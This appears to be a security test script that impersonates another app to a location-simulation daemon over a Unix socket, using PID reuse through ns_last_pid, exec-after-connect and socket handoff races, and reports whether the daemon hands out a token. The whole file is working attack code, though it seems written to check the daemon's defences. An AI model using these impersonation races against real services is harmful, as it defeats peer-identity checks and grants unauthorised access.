# SPDX-License-Identifier: MIT
"""Plays an app that wants to be taken for another one: attack.py NAME SOCKET DAEMON-PROCESS.

Prints what the daemon did with the attacker's Hello.
The daemon is stopped meanwhile, so that each race is won.
"""
import base64
import json
import os
import signal
import socket
import sys
import time

name, path, daemon = sys.argv[1], sys.argv[2], int(sys.argv[3])
plist = (
    b'<plist version="1.0"><dict><key>CFBundleIdentifier</key><string>org.example.victim</string>'
    b"</dict></plist>"
)


def hello(peer):
    """Introduces the attacker, and returns the daemon's verdict."""
    content = base64.b64encode(plist).decode()
    call = {
        "method": "org.locsim.Location.Hello",
        "parameters": {
            "major": 1, "minor": 0, "library": "attack",
            "infoPlist": {"path": "/Info.plist", "content": content},
        },
    }
    try:
        peer.sendall(json.dumps(call).encode() + b"\0")
        answer = peer.recv(65536)
    except (BrokenPipeError, ConnectionResetError):
        return "refused"
    except OSError as error:
        return str(error)
    if not answer:
        return "refused"
    return "served" if b'"token"' in answer else "error"


def connect():
    peer = socket.socket(socket.AF_UNIX)
    peer.settimeout(20)
    peer.connect(path)
    return peer


def report(text):
    print(text, flush=True)


def reuse():
    """The connected process ends, and its number becomes another program's."""
    os.kill(daemon, signal.SIGSTOP)
    reading, writing = os.pipe()
    waiting, done = os.pipe()
    attacker = os.fork()
    if attacker == 0:
        peer = connect()
        if os.fork() == 0:
            # Keeps the socket, and speaks when the victim runs.
            os.close(writing)
            os.read(reading, 1)
            report(hello(peer))
            os.write(done, b"x")
            os._exit(0)
        os._exit(0)
    os.waitpid(attacker, 0)
    for _ in range(100):
        with open("/proc/sys/kernel/ns_last_pid", "w") as last:
            last.write(str(attacker - 1))
        victim = os.fork()
        if victim == 0:
            os.execv("/bin/sleep", ["sleep", "30"])
        if victim == attacker:
            break
        os.kill(victim, signal.SIGKILL)
        os.waitpid(victim, 0)
    else:
        report("the number was not reused")
    os.kill(daemon, signal.SIGCONT)
    os.write(writing, b"x")
    os.read(waiting, 1)
    os.kill(victim, signal.SIGKILL)


def change():
    """The connected process executes another program, while another process has the socket."""
    os.kill(daemon, signal.SIGSTOP)
    reading, writing = os.pipe()
    attacker = os.fork()
    if attacker == 0:
        peer = connect()
        if os.fork() == 0:
            os.close(writing)
            os.read(reading, 1)
            report(hello(peer))
            # The answer is compared with what the daemon shows about its apps.
            time.sleep(5)
            os._exit(0)
        os.execv("/bin/sleep", ["sleep", "30"])
    time.sleep(0.2)
    os.kill(daemon, signal.SIGCONT)
    os.write(writing, b"x")
    time.sleep(5)
    os.kill(attacker, signal.SIGKILL)


def handed():
    """The connected process ends, and another process has its socket."""
    reading, writing = os.pipe()
    waiting, done = os.pipe()
    attacker = os.fork()
    if attacker == 0:
        peer = connect()
        first = hello(peer)
        if os.fork() == 0:
            os.close(writing)
            os.read(reading, 1)
            try:
                peer.sendall(b'{"method":"org.locsim.Location.GetState"}\0')
                answer = peer.recv(65536)
            except (BrokenPipeError, ConnectionResetError):
                answer = b""
            report(f"{first}, then " + ("served" if b'"serial"' in answer or b'"state"' in answer else "ended"))
            os.write(done, b"x")
            os._exit(0)
        os._exit(0)
    os.waitpid(attacker, 0)
    os.write(writing, b"x")
    os.read(waiting, 1)


{"reuse": reuse, "exec": change, "handed": handed}[name]()
